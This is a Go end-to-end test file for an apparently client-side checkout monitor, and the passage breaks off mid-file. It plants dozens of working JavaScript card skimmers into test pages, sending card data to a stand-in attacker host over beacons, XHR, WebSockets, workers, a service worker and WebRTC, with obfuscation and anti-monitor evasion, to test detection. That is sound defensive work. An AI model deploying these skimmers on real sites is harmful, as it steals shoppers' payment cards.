package e2e

import (
	"crypto/sha512"
	"encoding/base64"
	"fmt"
	"html/template"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	skimguard "github.com/skimguard/skimguard"
	"github.com/skimguard/skimguard/internal/sharedfiles"
)

// technique is one row of THREATS.md made into a page: served clean, learnt
// as the baseline, checked clean again (it must stay silent), then planted
// and checked (it must be caught).
type technique struct {
	name   string
	threat string // the THREATS.md row it stands for
	// base makes the clean page; plant turns it into the compromised one.
	base, plant func(p *page)
	wait        time.Duration
	profile     string
	// want: every kind must be among the findings; anyOf: at least one.
	want, anyOf []skimguard.Kind
	// subjects must each appear in some finding's subject.
	subjects []string
	// shopper, for a skimmer that sends only where WebRTC may send UDP:
	// each planted check first has a shopper's own browser load the page
	// and type the card, and the attacker must receive it over a data
	// channel (skimguard's browser sends no UDP around its egress proxy).
	shopper bool
	// initiators must each appear in some finding's evidence initiator
	// (a worker, "worker https://shop/w.js").
	initiators []string
	// repeat checks the planted page this many times (once-per-visitor).
	repeat int
	// fires says what the attacker's server must receive from the shopper's
	// browser on each planted check, proving the skimmer fired before the
	// test asks whether skimguard caught it. Its zero value means fireCard
	// when want holds data.exfiltration; any other technique must say.
	fires fire
	// decode is what the attacker does to what it received to read the
	// card (decrypt it), for skimmers that send it in a form skimguard
	// cannot read; nil when it is readable as sent.
	decode func(got []byte) []byte
	// pays says the skimmer sends only when the shopper pays, which a
	// monitor never does: the proof is a shopper's browser that types the
	// card and presses the pay button after each check.
	pays bool
	// named: a finding of each kind must hold the text in its subject,
	// detail or sender, and none of the not texts in its sender.
	named []named

	// locale and timezone are the shopper's, for kits that serve one
	// country's shoppers; empty for en-US in the machine's zone.
	locale, timezone string
}

// named asks that a finding of kind name the text, and that its sender
// (Evidence.Initiator) not be any of not.
type named struct {
	kind skimguard.Kind
	text string
	not  []string
}

// fire is what proves that a planted skimmer ran for the shopper.
type fire int

const (
	// fireCard: the attacker's server received the card the scan typed
	// (whole, or the parts the kit sends).
	fireCard fire = iota + 1
	// fireRequest: the attacker's server received a request (a cookie
	// beacon, a fetch of its payload, a redirected shopper).
	fireRequest
	// fireNothing: the change itself is the attack and sends nothing by
	// itself (a dropped header or attribute, a form that sends only when
	// submitted, a handler that waits for a click the monitor never makes).
	fireNothing
)

// proof returns what proves tc fired.
func (tc *technique) proof() fire {
	if tc.fires == 0 && slices.Contains(tc.want, skimguard.KindDataExfiltration) {
		return fireCard
	}
	return tc.fires
}

func direct(p *page)  { p.Direct = true }
func magento(p *page) { p.Magento = true }

// skim is skimmer code that, once a complete card number is in an input of
// the document, serialises every filled input as JSON into s and runs send.
func skim(send string) string {
	return `(function () {
  var sent = false;
  function grab() { var d = {}; document.querySelectorAll('input,select').forEach(function (i) { if (i.value) d[i.name || i.id] = i.value; }); return d; }
  function fire() {
    var d = grab(), card = false;
    Object.keys(d).forEach(function (k) { if (/num/.test(k) && d[k].replace(/\D/g, '').length >= 16) card = true; });
    if (!card || sent) return;
    var s = JSON.stringify(d);
    ` + send + `
  }
  document.addEventListener('change', fire, true);
  setInterval(fire, 400);
})();`
}

func script(code string) template.HTML { return template.HTML("<script>" + code + "</script>") }

func sri384(s string) string {
	h := sha512.Sum384([]byte(s))
	return "sha384-" + base64.StdEncoding.EncodeToString(h[:])
}

// corpus reads a real skimmer sample from dir, the build machines' skimmer
// corpus. Hosts in it are rewritten by the caller to loopback before any
// browser loads it.
func corpus(t testing.TB, dir, name string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, name))
	if err != nil {
		t.Fatalf("read corpus sample: %v", err)
	}
	return string(b)
}

func reverse(s string) string {
	r := []rune(s)
	for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
		r[i], r[j] = r[j], r[i]
	}
	return string(r)
}

func hexEscape(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, `\x%02X`, c)
	}
	return b.String()
}

func mustReplace(t testing.TB, s, old, new string) string {
	t.Helper()
	if !strings.Contains(s, old) {
		t.Fatalf("corpus sample does not contain %q: cannot rewrite its host to loopback", old)
	}
	return strings.ReplaceAll(s, old, new)
}

// techniques are the pages written for this suite, one or more for every
// technique of THREATS.md: they run on every clone.
func techniques() []*technique {
	return append(cardAccessTechniques(), []*technique{
		{
			name: "inline-fxon", threat: "inline <script> added to the checkout HTML (fx-on 2017)",
			base: direct,
			plant: func(p *page) {
				p.Body = script(skim(`var x = new XMLHttpRequest(); x.open('POST', '` + p.EvilBase + `/gate.php'); x.send(btoa(s)); sent = true;`))
			},
			want: []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration, skimguard.KindConnectionAdded},
		},
		{
			name: "lookalike-external", threat: "new external script from a lookalike domain",
			base: direct,
			plant: func(p *page) {
				p.Head = template.HTML(`<script src="` + p.EvilBase + `/jquery-cdn.min.js"></script>`)
				p.EvilFiles["/jquery-cdn.min.js"] = skim(`new Image().src = '` + p.EvilBase + `/p.gif?d=' + encodeURIComponent(btoa(s)); sent = true;`)
			},
			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
			subjects: []string{"/jquery-cdn.min.js"},
		},
		{
			name: "appended-first-party", threat: "code appended to a first-party file, firing on the pay button's mouseup (British Airways 2018)",
			base: direct,
			plant: func(p *page) {
				p.AppJS += `window.addEventListener('load', function () {
  var b = document.getElementById('pay');
  function f() { var n = {}; new FormData(document.getElementById('payment')).forEach(function (v, k) { n[k] = v; });
    var x = new XMLHttpRequest(); x.open('POST', '` + p.EvilBase + `/gateway/app/dataprocessing/api'); x.setRequestHeader('Content-Type', 'application/json;charset=UTF-8'); x.send(JSON.stringify(n)); }
  b.addEventListener('mouseup', f); b.addEventListener('touchend', f);
});`
			},
			want:     []skimguard.Kind{skimguard.KindScriptChanged, skimguard.KindDataExfiltration},
			subjects: []string{"/static/app.js"},
		},
		{
			name: "third-party-compromised", threat: "compromised third-party script (Ticketmaster 2018 chat widget)",
			base: direct,
			plant: func(p *page) {
				p.WidgetJS += `document.addEventListener('blur', function (e) { if (!e.target || !e.target.value || e.target.value.replace(/\D/g, '').length < 15) return;
  fetch('` + p.EvilBase + `/c', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ k: e.target.value }) }); }, true);`
			},
			want:     []skimguard.Kind{skimguard.KindScriptChanged, skimguard.KindDataExfiltration},
			subjects: []string{"/widget.js"},
		},
		{
			name: "tag-manager", threat: "tag manager container loads the skimmer at run time",
			plant: func(p *page) {
				p.GTMJS = `(function () { var tags = [function () { var s = document.createElement('script'); s.src = '` + p.EvilBase + `/tag.js'; document.head.appendChild(s); }]; tags.forEach(function (t) { t(); }); })();`
				p.EvilFiles["/tag.js"] = `new Image().src = '` + p.EvilBase + `/t.gif?c=' + encodeURIComponent(document.cookie);`
			},
			want:     []skimguard.Kind{skimguard.KindScriptChanged, skimguard.KindScriptAdded, skimguard.KindConnectionAdded},
			subjects: []string{"/gtm.js", "/tag.js"},
			fires:    fireRequest,
		},
		{
			name: "eval-snippet", threat: "code run by eval / new Function, with no URL",
			base: func(p *page) {
				direct(p)
				p.AppJS = `fetch(location.pathname.replace(/checkout$/, 'static/snippet.txt')).then(function (r) { return r.text(); }).then(function (t) { new Function(t)(); });`
				p.Snippet = `document.body.dataset.promo = 'free-shipping';`
			},
			plant: func(p *page) {
				p.Snippet = skim(`navigator.sendBeacon('` + p.EvilBase + `/b', btoa(s)); sent = true;`)
			},
			want:  []skimguard.Kind{skimguard.KindDataExfiltration},
			anyOf: []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindScriptChanged},
		},
		{
			name: "svg-onload", threat: "inline event handler <svg onload> (Sansec SVG skimmer 2020)",
			base: direct,
			plant: func(p *page) {
				code := skim(`new Image().src = '` + p.EvilBase + `/s.gif?d=' + encodeURIComponent(btoa(s)); sent = true;`)
				p.Body = template.HTML(`<svg width="1" height="1" onload="` + template.HTMLEscapeString(code) + `"></svg>`)
			},
			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
			subjects: []string{"onload"},
		},
		{
			name: "img-onerror-jsurl", threat: "inline event handlers <img onerror> and javascript: URLs",
			base: direct,
			plant: func(p *page) {
				p.Body = template.HTML(`<img src="/missing.png" width="1" height="1" onerror="` +
					template.HTMLEscapeString(`new Image().src='`+p.EvilBase+`/e.gif?c='+encodeURIComponent(document.cookie)`) + `">` +
					`<a id="help" href="javascript:void(new Image().src='` + p.EvilBase + `/h.gif')">help</a>`)
			},
			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindConnectionAdded},
			subjects: []string{"onerror", "javascript"},
			fires:    fireRequest,
		},
		{
			name: "fake-card-form", threat: "fake card form injected over the provider's iframe, the real one hidden",
			plant: func(p *page) {
				p.Body = script(`(function () {
  document.getElementById('card-frame').style.display = 'none';
  var f = document.createElement('form'); f.id = 'ccsave'; f.action = '` + p.EvilBase + `/c.php'; f.method = 'post';
  f.innerHTML = '<input name="cc_number" autocomplete="cc-number"><input name="cc_exp" autocomplete="cc-exp"><input name="cc_cid" autocomplete="cc-csc">';
  document.getElementById('checkout').appendChild(f);
})();` + skim(`new Image().src = '`+p.EvilBase+`/f.gif?d=' + encodeURIComponent(btoa(s)); sent = true;`))
			},
			want: []skimguard.Kind{skimguard.KindFormAdded, skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
		},
		{
			name: "provider-iframe-lookalike", threat: "provider iframe replaced by a lookalike page (Realex/Elavon)",
			plant: func(p *page) {
				p.FrameSrc = p.EvilBase + "/hosted"
				p.EvilHTML["/hosted"] = `<!doctype html><form action="/steal" method="post"><input name="cardnumber" autocomplete="cc-number"><input name="exp-date" autocomplete="cc-exp"><input name="cvc" autocomplete="cc-csc"></form>
<script>document.addEventListener('change', function (e) { if (e.target.name === 'cardnumber') navigator.sendBeacon('k', e.target.value); }, true);</script>`
			},
			want:  []skimguard.Kind{skimguard.KindDataExfiltration},
			anyOf: []skimguard.Kind{skimguard.KindFrameChanged, skimguard.KindFrameAdded},
		},
		{
			name: "form-action-swap", threat: "form action pointed at another host (form-jacking)",
			base: direct,
			plant: func(p *page) {
				p.Action = p.EvilBase + "/pay"
			},
			want:  []skimguard.Kind{skimguard.KindFormChanged},
			fires: fireNothing,
		},
		{
			name: "redirect-fake-payment", threat: "payment step redirected to a fake payment page (EC-CUBE 2018–2019, Zojirushi 2019)",
			base: direct,
			plant: func(p *page) {
				p.Redirect = p.EvilBase + "/payment"
				p.EvilHTML["/payment"] = `<!doctype html><h1>Payment failed, please retry</h1><form action="/retry" method="post"><input name="cc-number" autocomplete="cc-number"><input name="cc-csc" autocomplete="cc-csc"><button>Pay</button></form>`
			},
			want:  []skimguard.Kind{skimguard.KindPageRedirected},
			fires: fireRequest,
		},
		{
			name: "payload-in-favicon", threat: "payload hidden in an image (Malwarebytes favicon 2020), run from a loader",
			base: direct,
			plant: func(p *page) {
				p.Head = script(`fetch('` + p.EvilBase + `/favicon.ico').then(function (r) { return r.text(); }).then(function (t) { (0, eval)(t.slice(t.indexOf('/*!') + 3, t.lastIndexOf('*/'))); });`)
				p.EvilFiles["/favicon.ico"] = "\x00\x00\x01\x00ICO\x00/*!" + skim(`new Image().src = '`+p.EvilBase+`/i.gif?d=' + btoa(s); sent = true;`) + "*/"
			},
			want: []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindConnectionAdded, skimguard.KindDataExfiltration},
		},
		{
			name: "websocket-exfil", threat: "data sent over a WebSocket (Forbes 2019)",
			base: direct,
			plant: func(p *page) {
				ws := "ws" + strings.TrimPrefix(p.EvilBase, "http") + "/ws"
				p.Body = script(`var sock = new WebSocket('` + ws + `');` + skim(`if (sock.readyState === 1) { sock.send(btoa(s)); sent = true; }`))
			},
			want: []skimguard.Kind{skimguard.KindDataExfiltration, skimguard.KindConnectionAdded},
		},
		{
			name: "beacon-hex", threat: "navigator.sendBeacon with hex-encoded data",
			base: direct,
			plant: func(p *page) {
				p.Body = script(skim(`navigator.sendBeacon('` + p.EvilBase + `/b', Array.from(new TextEncoder().encode(s)).map(function (b) { return b.toString(16).padStart(2, '0'); }).join('')); sent = true;`))
			},
			want: []skimguard.Kind{skimguard.KindDataExfiltration},
		},
		{
			name: "allowed-service-exfil", threat: "card data sent to a service the page already talks to (analytics collect endpoint), base64 reversed",
			base: direct,
			plant: func(p *page) {
				p.Body = script(skim(`navigator.sendBeacon('` + p.CDNBase + `/collect?t=event&el=' + encodeURIComponent(btoa(s).split('').reverse().join(''))); sent = true;`))
			},
			want:     []skimguard.Kind{skimguard.KindDataExfiltration},
			subjects: []string{"127.0.0.3"},
		},
		{
			name: "hidden-iframe-exfil", threat: "data sent in a hidden iframe's src (megalith-games kit)",
			base: direct,
			plant: func(p *page) {
				p.Body = script(skim(`var f = document.createElement('iframe'); f.style.display = 'none'; f.src = '` + p.EvilBase + `/log.php?mag=' + encodeURI(s); document.body.appendChild(f); sent = true;`))
			},
			want: []skimguard.Kind{skimguard.KindDataExfiltration, skimguard.KindFrameAdded},
		},
		{
			name: "shopper-only", threat: "served only to browsers that look like shoppers (no HeadlessChrome, webdriver false, Windows UA, languages)",
			base: direct,
			plant: func(p *page) {
				p.Body = script(`if (!navigator.webdriver && !/Headless/i.test(navigator.userAgent) && /Windows|Macintosh/.test(navigator.userAgent) && navigator.languages && navigator.languages.length) {` +
					skim(`new Image().src = '`+p.EvilBase+`/u.gif?d=' + btoa(s); sent = true;`) + `}`)
			},
			want: []skimguard.Kind{skimguard.KindDataExfiltration},
		},
		{
			name: "once-per-visitor", threat: "fires once per visitor (24 h setidd cookie)",
			base: direct,
			plant: func(p *page) {
				p.Body = script(`if (document.cookie.indexOf('setidd=') < 0) { document.cookie = 'setidd=' + Date.now() + '; path=/; max-age=86400';` +
					skim(`new Image().src = '`+p.EvilBase+`/o.gif?d=' + btoa(s); sent = true;`) + `}`)
			},
			repeat: 2,
			want:   []skimguard.Kind{skimguard.KindDataExfiltration},
		},
		{
			name: "mobile-only", threat: "served only to phones, checked on the server and in the page (RiskIQ MobileInter 2021)",
			base: direct, profile: skimguard.ProfileMobile,
			plant: phonesOnly,
			want:  []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
		},
		{
			name: "japan-only", threat: "served only to Japanese-speaking shoppers in Japan: Accept-Language on the server, language and time zone in the page (geofenced kits)",
			base: direct, locale: "ja-JP", timezone: "Asia/Tokyo",
			plant: japanOnly,
			want:  []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
		},
		{
			name: "delayed-loader", threat: "waits 5–10 s before loading anything",
			base: direct, wait: 9 * time.Second,
			plant: func(p *page) {
				p.Body = script(`setTimeout(function () { var s = document.createElement('script'); s.src = '` + p.EvilBase + `/late.js'; document.head.appendChild(s); }, 6000);`)
				p.EvilFiles["/late.js"] = skim(`new Image().src = '` + p.EvilBase + `/l.gif?d=' + btoa(s); sent = true;`)
			},
			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
			subjects: []string{"/late.js"},
		},
		{
			name: "obfuscated-per-request", threat: "obfuscated and different on every request",
			base: direct,
			plant: func(p *page) {
				v := "_0x" + rnd(3)
				p.Body = script(`var ` + v + ` = ['` + hexEscape(p.EvilBase+"/z.gif?d=") + `'];` + skim(`new Image().src = `+v+`[0] + btoa(s); sent = true;`))
			},
			repeat: 2,
			want:   []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
		},
		{
			name: "integrity-dropped", threat: "SRI integrity attribute dropped from a third-party script",
			base: func(p *page) {
				direct(p)
				p.SRIAttrs = template.HTMLAttr(`integrity="` + sri384(p.LibJS) + `" crossorigin="anonymous"`)
			},
			plant: func(p *page) { p.SRIAttrs = "" },
			want:  []skimguard.Kind{skimguard.KindScriptAttributesChanged},
			fires: fireNothing,
		},
		{
			name: "csp-removed", threat: "security header removed (PCI DSS 11.6.1 watches headers)",
			base:  direct,
			plant: func(p *page) { p.CSP = "" },
			want:  []skimguard.Kind{skimguard.KindHeaderRemoved},
			fires: fireNothing,
		},

		// Our own pages for what the corpus samples do, so that every clone
		// proves these techniques too.
		{
			name: "checkout-url-only-atob", threat: "runs only on URLs containing checkout, onepage or onestep: eval(atob()) loader that document.writes a reversed script URL (as the atob.js kit)",
			base: direct,
			plant: func(p *page) {
				loader := `if ((new RegExp('onepage|checkout|onestep')).test(window.location)) { document.write('` + reverse(`<script src="`+p.EvilBase+`/e.js"></`+`script>`) + `'.split('').reverse().join('')); }`
				p.Head = script(`this['eval'](this['atob']('` + base64.StdEncoding.EncodeToString([]byte(loader)) + `'));`)
				p.EvilFiles["/e.js"] = skim(`new Image().src = '` + p.EvilBase + `/a.gif?d=' + btoa(s); sent = true;`)
			},
			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
			subjects: []string{"/e.js"},
		},
		{
			name: "polling-magento-gate", threat: "polls the Magento payment form every 700 ms and posts it with jQuery once PAN and CVV are complete (as the gate.php kit)",
			base: magento,
			plant: func(p *page) {
				p.Body = script(`var se = false; setInterval(function () {
  var r = document.getElementsByName('payment[cc_number]'); if (se || !r.length) return;
  var n = r[0].value.replace(/[^\d]/g, ''); var c = document.getElementsByName('payment[cc_cid]')[0].value;
  if (n.length === 16 && c.length === 3) { se = true;
    jQuery.ajax({ url: '` + p.EvilBase + `/gate.php?token=x', type: 'POST', data: JSON.stringify(jQuery('#co-payment-form').serialize()) }); }
}, 700);`)
			},
			want: []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
			// It sends through the shop's own jQuery: it is named, not jQuery.
			named: []named{{kind: skimguard.KindDataExfiltration, text: "sent by inline #", not: []string{"/static/jquery.js"}}},
		},
		{
			name: "image-beacon-cookies", threat: "image beacon carrying the location, the top location and the cookies at load (as the zs.mk kit)",
			base: direct,
			plant: func(p *page) {
				p.Body = script(`(function () { (new Image()).src = '` + p.EvilBase + `/index.php?do=api&location=' + escape(document.location.href) + '&toplocation=' + escape(top.location.href) + '&cookie=' + escape(document.cookie); })();`)
			},
			want:  []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindConnectionAdded},
			fires: fireRequest,
		},
		{
			name: "hex-array-delayed-input", threat: "hex-escaped string array, waits 5 s, then sends the form on input (as the cdn-js.link kit)",
			// Typing ends a quarter of the window before its end: in a
			// 7 s window it could end before the kit listens.
			base: magento, wait: 10 * time.Second,
			plant: func(p *page) {
				p.Head = template.HTML(`<script src="` + p.EvilBase + `/lib.js"></script>`)
				p.EvilFiles["/lib.js"] = `var _0x5a1c = ['` + hexEscape("input") + `', '` + hexEscape(p.EvilBase+"/mag.php") + `', '` + hexEscape("payment[cc_number]") + `'];
setTimeout(function () {
  document.addEventListener(_0x5a1c[0], function () {
    var f = document.getElementById('co-payment-form'); var n = f.elements[_0x5a1c[2]].value.replace(/\D/g, '');
    if (n.length < 16 || window._0xsent) return; window._0xsent = true;
    var x = new XMLHttpRequest(); x.open('POST', _0x5a1c[1]); x.send(btoa(new URLSearchParams(new FormData(f)).toString()));
  }, true);
}, 5000);`
			},
			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
			subjects: []string{"/lib.js"},
		},
		{
			name: "fromcharcode-onepage-timer", threat: "eval(String.fromCharCode(...)) that runs a setTimeout(string) loop on onepage URLs (as the amasty.biz kit)",
			base: direct,
			plant: func(p *page) {
				code := `window.grab = function () { var d = ''; document.querySelectorAll('input').forEach(function (i) { if (i.value) d += i.name + '=' + i.value + '&'; });
  if (/cc-number=\d{16}/.test(d) && !window.sentIt) { window.sentIt = true; new Image().src = '` + p.EvilBase + `/lib/paypal_icon.jpg?h=' + btoa(d); } setTimeout('grab()', 300); };
if ((new RegExp('onepagecheckout|onestepcheckout|onepage')).test(window.location)) { setTimeout('grab()', 300); }`
				p.Body = script(`this['eval'](String['fromCharCode'](` + fromCharCodes(code) + `));`)
			},
			want: []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
		},
		{
			name: "pay-onclick-hidden-iframe", threat: "rewrites the pay button's onclick to send the form through a hidden iframe (as the megalith-games kit)",
			base: magento,
			plant: func(p *page) {
				p.Body = script(`window.onload = function () { var b = document.getElementById('pay'); var old = b.onclick;
  b.onclick = function () { var t = document.createElement('iframe'); t.style.display = 'none';
    t.src = '` + p.EvilBase + `/log.php?d=' + encodeURIComponent(new URLSearchParams(new FormData(document.getElementById('co-payment-form'))).toString());
    document.body.appendChild(t); return old ? old.apply(this, arguments) : true; }; };`)
			},
			// It sends on a click, which a monitor never makes (it would
			// pay): its code is what is caught.
			want:  []skimguard.Kind{skimguard.KindScriptAdded},
			fires: fireNothing,
		},
		{
			name: "click-listener-lookalike-once", threat: "lookalike jQuery domain, once-per-visitor id cookie, sends every field on any button click or form submit (as the vintagecollection kit)",
			base: direct,
			plant: func(p *page) {
				p.Head = template.HTML(`<script src="` + p.EvilBase + `/jquery.min.js"></script>`)
				p.EvilFiles["/jquery.min.js"] = `(function () {
  var id = (document.cookie.match(/(?:^|; )setidd=([^;]*)/) || [])[1];
  if (!id) { id = Date.now() + '-' + Math.floor(Math.random() * 1e9); document.cookie = 'setidd=' + id + '; path=/; max-age=86400'; }
  function clk() { var d = ''; document.querySelectorAll('input, select').forEach(function (i) { if (i.value) d += i.name + '=' + i.value + '&'; });
    var x = new XMLHttpRequest(); x.open('POST', '` + p.EvilBase + `/jquery.min.js'); x.send('info=' + btoa(d) + '&key=' + id); }
  if (/onepage|checkout|onestep/.test(location)) document.addEventListener('DOMContentLoaded', function () {
    document.querySelectorAll('button, input[type=submit]').forEach(function (b) { b.addEventListener('click', clk); });
    document.querySelectorAll('form').forEach(function (f) { f.addEventListener('submit', clk); }); });
})();`
			},
			want:     []skimguard.Kind{skimguard.KindScriptAdded},
			subjects: []string{"/jquery.min.js"},
			fires:    fireNothing,
		},
		{
			name: "dedicated-worker", threat: "a Web Worker skims: the page hands it the card, it imports its code from the attacker and sends from outside the page",
			base: direct,
			plant: func(p *page) {
				p.Body = script(`var w = new Worker('` + p.Base + `/static/crypto-worker.js');` + skim(`w.postMessage(s); sent = true;`))
				p.ShopFiles["/static/crypto-worker.js"] = `importScripts('` + p.EvilBase + `/wk.js');`
				p.EvilFiles["/wk.js"] = `onmessage = function (e) { fetch('` + p.EvilBase + `/w', { method: 'POST', mode: 'no-cors', body: btoa(e.data) }); };`
			},
			want:       []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration, skimguard.KindConnectionAdded},
			subjects:   []string{"/wk.js", "127.0.0.4"},
			initiators: []string{"worker "},
		},
		{
			name: "shared-worker", threat: "the shop's shared worker, compromised, receives the card from the page and sends it to the attacker",
			base: func(p *page) {
				direct(p)
				p.AppJS += `var cartSync = new SharedWorker('` + p.Base + `/static/cart-sync.js'); cartSync.port.start();
document.addEventListener('change', function (e) { if (e.target.name === 'cc-name') cartSync.port.postMessage({ name: e.target.value }); }, true);
`
				p.ShopFiles["/static/cart-sync.js"] = `onconnect = function (e) { var port = e.ports[0]; port.onmessage = function (m) { port.postMessage('saved'); }; };`
			},
			plant: func(p *page) {
				p.ShopFiles["/static/cart-sync.js"] = `onconnect = function (e) { var port = e.ports[0]; port.onmessage = function (m) { port.postMessage('saved');
  if (m.data.n) fetch('` + p.EvilBase + `/s?d=' + encodeURIComponent(btoa(m.data.n)), { mode: 'no-cors' }); }; };`
				p.Body = script(skim(`cartSync.port.postMessage({ n: s }); sent = true;`))
			},
			want:       []skimguard.Kind{skimguard.KindScriptChanged, skimguard.KindDataExfiltration, skimguard.KindConnectionAdded},
			subjects:   []string{"/static/cart-sync.js", "127.0.0.4"},
			initiators: []string{"shared worker "},
		},
		{
			name: "service-worker-returning", threat: "a compromised service worker rewrites the checkout HTML a returning shopper receives, injecting the skimmer; a first visit looks clean",
			base: func(p *page) {
				direct(p)
				p.AppJS += "navigator.serviceWorker.register('" + p.Base + "/sw.js');\n"
				p.ShopFiles["/sw.js"] = `self.addEventListener('install', function () { self.skipWaiting(); });
self.addEventListener('activate', function (e) { e.waitUntil(self.clients.claim()); });
self.addEventListener('fetch', function (e) { if (e.request.mode === 'navigate') e.respondWith(fetch(e.request)); });`
			},
			plant: func(p *page) {
				p.ShopFiles["/sw.js"] = `self.addEventListener('install', function () { self.skipWaiting(); });
self.addEventListener('activate', function (e) { e.waitUntil(self.clients.claim()); });
self.addEventListener('fetch', function (e) {
  if (e.request.mode !== 'navigate') return;
  e.respondWith(fetch(e.request).then(function (r) { return r.text().then(function (h) {
    return new Response(h.replace('</body>', '<script src="` + p.EvilBase + `/sw-inject.js"></script></body>'), { status: r.status, headers: r.headers });
  }); }));
});`
				p.EvilFiles["/sw-inject.js"] = skim(`navigator.sendBeacon('` + p.EvilBase + `/r', btoa(s)); sent = true;`)
			},
			want:     []skimguard.Kind{skimguard.KindScriptChanged, skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
			subjects: []string{"/sw.js", "/sw-inject.js", "127.0.0.4"},
		},
		{
			name: "webrtc-datachannel", threat: "WebRTC data channel exfiltration, past CSP and the network log (Sansec, Dec 2021 and 2026)",
			base: direct,
			plant: func(p *page) {
				p.Body = script(`var rtc = { q: null, open: false }; (function () {
  var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:` + hostname(p.Evil) + `:3478' }] });
  rtc.dc = pc.createDataChannel('c');
  rtc.dc.onopen = function () { rtc.open = true; if (rtc.q) rtc.dc.send(rtc.q); };
  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); })
    .then(function () { return fetch('` + p.EvilBase + `/rtc', { method: 'POST', body: pc.localDescription.sdp }); })
    .then(function (r) { return r.text(); }).then(function (a) { return pc.setRemoteDescription({ type: 'answer', sdp: a }); });
})();` + skim(`rtc.q = btoa(s); if (rtc.open) rtc.dc.send(rtc.q); sent = true;`))
			},
			// In skimguard's browser the channel never opens: what proves
			// the skimmer ran there is its offer reaching the attacker; a
			// shopper's browser proves it sends the card.
			shopper:  true,
			fires:    fireRequest,
			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindConnectionAdded},
			subjects: []string{"stun://" + "127.0.0.4:3478"},
		},
	}...)
}

// phonesOnly plants a skimmer that the shop's server sends only to a
// phone's Chrome (Android user agent, Sec-CH-UA-Mobile ?1) and that runs
// only where every sign agrees: touch, a coarse pointer that cannot hover,
// a phone's screen and navigator.userAgentData.mobile.
func phonesOnly(p *page) {
	if p.Header == nil || p.Header.Get("Sec-CH-UA-Mobile") != "?1" || !strings.Contains(p.Header.Get("User-Agent"), "Android") {
		return
	}
	p.Body = script(`if (/Android/.test(navigator.userAgent) && /Mobile/.test(navigator.userAgent) && 'ontouchstart' in window && navigator.maxTouchPoints > 0 &&
    matchMedia('(pointer: coarse)').matches && !matchMedia('(pointer: fine)').matches && matchMedia('(hover: none)').matches &&
    navigator.userAgentData && navigator.userAgentData.mobile === true && screen.width < 600 && devicePixelRatio >= 2) {` +
		skim(`new Image().src = '`+p.EvilBase+`/m.gif?d=' + btoa(s); sent = true;`) + `}`)
}

// japanOnly plants a skimmer that the shop's server sends only to shoppers
// whose browser asks for Japanese first, and that runs only when the page
// agrees: Japanese in navigator.language and Intl, the Tokyo time zone and
// its offset.
func japanOnly(p *page) {
	if p.Header == nil || !strings.HasPrefix(p.Header.Get("Accept-Language"), "ja") {
		return
	}
	p.Body = script(`if (/^ja\b/.test(navigator.language) && /^ja\b/.test(Intl.DateTimeFormat().resolvedOptions().locale) &&
    Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Tokyo' && new Date().getTimezoneOffset() === -540) {` +
		skim(`new Image().src = '`+p.EvilBase+`/j.gif?d=' + btoa(s); sent = true;`) + `}`)
}

// corpusTechniques are real skimmers from the build machines' corpus, hosts
// rewritten to loopback; nil, and why, when the corpus is absent.
func corpusTechniques(t testing.TB) ([]*technique, string) {
	dir, why := sharedfiles.CorpusDir()
	if dir == "" {
		return nil, why
	}
	atob := corpus(t, dir, "gwillem__corpus_frontend_atob.js.txt")
	gate := corpus(t, dir, "gwillem__corpus_frontend_gate.php.js.txt")
	zsmk := corpus(t, dir, "gwillem__corpus_frontend_zs.mk.txt")
	cdnjs := corpus(t, dir, "gwillem__corpus_frontend_cdn-js.link.js.txt")
	amasty := corpus(t, dir, "gwillem__corpus_frontend_amasty.biz.txt")
	megalith := corpus(t, dir, "gwillem__corpus_frontend_megalith-games.com.js.txt")
	vintage := corpus(t, dir, "gwillem__corpus_frontend_vintagecollection.ch.js.txt")
	return []*technique{
		{
			name: "corpus-atob-checkout", threat: "corpus atob.js: eval(atob()) loader, only on checkout URLs, document.write of a reversed URL",
			base: direct,
			plant: func(p *page) {
				enc := strings.SplitN(strings.SplitN(atob, "atob']('", 2)[1], "'", 2)[0]
				dec, err := base64.StdEncoding.DecodeString(enc)
				if err != nil {
					panic(err)
				}
				code := strings.ReplaceAll(string(dec), reverse("https://ups-broker.org/e.js"), reverse(p.EvilBase+"/e.js"))
				p.Head = script(strings.Replace(atob, enc, base64.StdEncoding.EncodeToString([]byte(code)), 1))
				p.EvilFiles["/e.js"] = skim(`new Image().src = '` + p.EvilBase + `/a.gif?d=' + btoa(s); sent = true;`)
			},
			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
			subjects: []string{"/e.js"},
		},
		{
			name: "corpus-gate-php", threat: "corpus gate.php.js: polls every 700 ms, posts the Magento payment form once PAN and CVV are complete",
			base: magento,
			plant: func(p *page) {
